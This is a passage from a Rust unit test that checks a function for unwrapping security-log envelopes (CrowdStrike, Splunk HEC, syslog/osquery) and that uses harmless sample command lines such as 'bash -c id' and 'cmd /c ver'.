        let x = json!({"id": "48213", "sourceBrand": "CrowdstrikeFalcon", "dbotMirrorId": "c:1",
            "rawJSON": "{\"composite_id\": \"c:1\", \"cmdline\": \"bash -c id\"}"});
        assert_eq!(
            unwrap_envelope(x.as_object().unwrap()).unwrap()["cmdline"],
            "bash -c id"
        );
        let hec = json!({"time": 1.0, "host": "runner-5", "sourcetype": "linux:audit", "event": "type=EXECVE msg=audit(1:2): argc=1 a0=\"id\""});
        let inner = unwrap_envelope(hec.as_object().unwrap()).unwrap();
        assert!(
            inner["message"]
                .as_str()
                .unwrap()
                .starts_with("type=EXECVE")
        );
        assert_eq!(inner["hostname"], "runner-5");
        let hec_obj =
            json!({"sourcetype": "x", "event": {"CommandLine": "cmd /c ver", "EventID": 1}});
        assert_eq!(
            unwrap_envelope(hec_obj.as_object().unwrap()).unwrap()["EventID"],
            1
        );
        let syslog = json!({"host": "mbp", "programname": "osqueryd", "message": " {\"name\": \"p\", \"columns\": {\"cmdline\": \"sh\"}}"});
        assert_eq!(
            unwrap_envelope(syslog.as_object().unwrap()).unwrap()["name"],
            "p"
        );
        // Not envelopes: plain text, or a document that already names its process.
        assert!(unwrap_envelope(json!({"message": "hello {x}"}).as_object().unwrap()).is_none());
        assert!(
            unwrap_envelope(
                json!({"process": {"name": "sh"}, "message": "{\"a\": 1, \"b\": 2}"})
                    .as_object()
                    .unwrap()
            )
            .is_none()
        );
    }
}
